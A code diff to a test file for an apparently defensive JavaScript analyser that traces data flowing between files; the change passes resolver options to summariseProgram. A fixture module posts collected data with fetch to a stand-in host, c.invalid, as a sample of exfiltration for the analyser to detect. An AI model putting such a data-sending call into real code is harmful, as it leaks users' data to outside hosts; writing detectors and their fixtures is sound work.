@@ -1,4 +1,5 @@
 import t from 'tap'
+import { NO_FILES } from '../../src/analysis/javascript/fold/files.ts'
 import { summariseJavascript, summariseProgram } from '../../src/analysis/javascript/summarise.ts'
 import { originOf, shifted, withBreaks } from '../../src/analysis/javascript/line-breaks.ts'
 
@@ -52,7 +53,7 @@ t.test('data that crosses files of one program, with the file of its source', as
       text: `module.exports = function (data) {\n  fetch('https://c.invalid/', { method: 'POST', body: data })\n}`,
     },
   ]
-  const sender = summariseProgram(files, inLib).find(({ path }) => path === 'lib/send.js')
+  const sender = summariseProgram(files, { ...NO_FILES, resolve: inLib }).find(({ path }) => path === 'lib/send.js')
   t.same(
     sender?.flows.map(({ source, sink }) => [source.path, source.line, sink.line, sink.deferred]),
     [['lib/collect.js', 1, 2, undefined]],
